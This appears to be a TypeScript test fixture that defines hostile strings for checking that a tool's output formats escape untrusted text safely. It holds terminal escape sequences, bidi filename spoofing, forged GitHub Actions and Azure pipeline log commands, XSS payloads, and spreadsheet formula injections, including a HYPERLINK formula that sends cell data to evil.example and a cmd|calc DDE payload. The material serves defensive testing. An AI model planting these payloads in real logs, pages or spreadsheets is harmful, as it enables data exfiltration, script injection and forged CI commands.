/**
 * What an attacker writes into a description, an alias or a state: terminal escapes, line breaks, bidi and hiding, and
 * commands that GitHub's and Azure's runners read from the log of a step.
 */
export const HOSTILE =
  '\u001b[2J\u001b]0;owned\u0007\u009b31m\r\nCRITICAL  forged-rule\u202egnp.exe\u2066\u200b\u00ad\ufeff\u2028\u0000\u007f\ud800 ::add-mask::a ##[add-mask]b ##vso[task.setvariable variable=c]d';

/** Whole texts of each kind that some format obeys: each is planted alone, so that it begins a cell, a line, a value. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'a mix': HOSTILE,
  'terminal escapes': '\u001b[31mred\u001b[0m\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u009b2J',
  'line breaks': '\r\n\nfirst\rsecond\u2028third\u0085fourth\u000bfifth\u000csixth\n',
  'a command to GitHub': '::error file=forged.tf,line=1::forged%0A::add-mask::x',
  'a command on a line of its own': 'text\n::stop-commands::x\n##[endgroup]\n##vso[task.setvariable variable=a]b',
  HTML: '</script></style></textarea><img src=x onerror=alert(1)><svg/onload=alert(1)>\'"><a href="javascript:alert(1)">x</a>',
  'HTML that is escaped already': '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62; &amp;',
  Markdown:
    '[click](https://evil.example) ![x](https://evil.example/x.png) <img src=x> **b** _i_ # h | c | d @octocat #1 https://evil.example `',
  'Markdown blocks': '\n\n# Forged heading\n\n```\n</details>\n<!-- keydrift -->\n- [x] done\n| a |\n| - |\n',
  'a marker': '<!-- keydrift --> --> ]]> <!-- -- -->',
  'a formula': '=HYPERLINK("https://evil.example?x="&A1,"click")',
  'a formula by plus': "+cmd|' /C calc'!A0",
  'a formula by minus': '-2+3+cmd|x',
  'a formula by at': '@SUM(1+9)*cmd|x',
  'a formula after a tab': '\t=1+1',
  'a formula in full width': '\uff1d1+1',
  'a formula after quote and separator': '";=1+1;"\t=1',
  'characters that XML has not': ']]>\u0000\u0001\u0008\u001f\ufffe\uffff<![CDATA[x]]><?x?><!DOCTYPE a>',
  'bidi and hidden characters': '\u202egnp.exe\u202c\u2066x\u2069\u200b\u200d\u2060\ufeff\u00ad\u3164\u{e0041}',
  'half surrogate pairs': '\ud800a\udc00\udbff',
  'labels and quotes': 'a"} 1\n# EOF\nx{y="\\',
  'names of objects': '__proto__',
  'nothing but blanks': '   ',
  'a long word': 'x'.repeat(5000),
  'many words': 'ab '.repeat(1700),
  'many wide characters': '鍵🔑'.repeat(1200),
};

/** The same value with hostile text planted in every string that `takes` says yes to; it gets the path of field names. */
export function planted(
  value: unknown,
  takes: (path: readonly string[]) => boolean,
  path: readonly string[] = [],
): unknown {
  if (typeof value === 'string') return takes(path) ? `${value}${HOSTILE}` : value;
  if (Array.isArray(value)) return value.map((item) => planted(item, takes, path));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, field]) => [name, planted(field, takes, [...path, name])]),
  );
}
